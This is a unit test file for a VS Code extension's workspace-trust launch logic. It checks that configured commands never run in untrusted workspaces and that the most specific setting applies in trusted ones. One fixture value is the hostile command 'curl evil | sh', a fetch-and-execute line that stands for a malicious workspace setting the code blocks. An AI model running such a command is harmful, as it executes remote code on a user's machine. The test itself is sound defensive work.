import assert from 'node:assert/strict';
import { decideLaunch } from '../../../src/vscode/launch/launchDecision';

describe('launch decision (workspace trust)', () => {
  it('never runs in an untrusted workspace, whichever settings level holds the command', () => {
    assert.deepEqual(decideLaunch(false, { globalValue: 'claude ${prompt}' }), { kind: 'untrusted', configured: true });
    assert.deepEqual(decideLaunch(false, { workspaceValue: 'curl evil | sh' }), { kind: 'untrusted', configured: true });
    assert.deepEqual(decideLaunch(false, { workspaceFolderValue: './run.sh ${phaseId}' }), { kind: 'untrusted', configured: true });
    assert.deepEqual(decideLaunch(false, {}), { kind: 'untrusted', configured: false });
  });

  it('runs the most specific command in a trusted workspace', () => {
    assert.deepEqual(decideLaunch(true, { globalValue: 'claude ${prompt}' }), { kind: 'run', template: 'claude ${prompt}' });
    assert.deepEqual(decideLaunch(true, { globalValue: 'a', workspaceValue: 'b' }), { kind: 'run', template: 'b' });
    assert.deepEqual(decideLaunch(true, { globalValue: 'a', workspaceValue: 'b', workspaceFolderValue: ' c ' }), { kind: 'run', template: 'c' });
  });

  it('lets a workspace switch launching off with an empty value, and reads anything else as unset', () => {
    assert.deepEqual(decideLaunch(true, { globalValue: 'claude ${prompt}', workspaceValue: '' }), { kind: 'not-configured' });
    assert.deepEqual(decideLaunch(true, {}), { kind: 'not-configured' });
    assert.deepEqual(decideLaunch(true, { globalValue: 42, workspaceValue: ['x'] }), { kind: 'not-configured' });
    assert.deepEqual(decideLaunch(true, { globalValue: '   ' }), { kind: 'not-configured' });
  });
});
